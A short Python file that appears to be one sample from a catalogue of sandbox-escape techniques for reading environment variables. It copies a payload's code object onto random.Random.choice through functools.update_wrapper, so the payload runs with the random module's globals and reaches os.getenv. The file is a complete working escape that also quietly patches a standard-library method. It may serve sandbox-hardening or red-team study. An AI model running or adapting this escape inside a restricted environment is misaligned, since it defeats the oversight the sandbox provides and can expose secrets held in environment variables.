# family: environment reads
# escape: update_wrapper(*args) hides "__code__"; random.Random.choice then runs the payload with the random
# module's globals, in which the payload's free name `_os` is the os module: _os.getenv reads the environment.
import functools
import random

def payload(self, name):
    return _os.getenv(name)

def tool(name: str = "HOME", word: str = "code"):
    functools.update_wrapper(*(random.Random.choice, payload, ("__" + word + "__",), ()))
    return random.Random().choice(name)
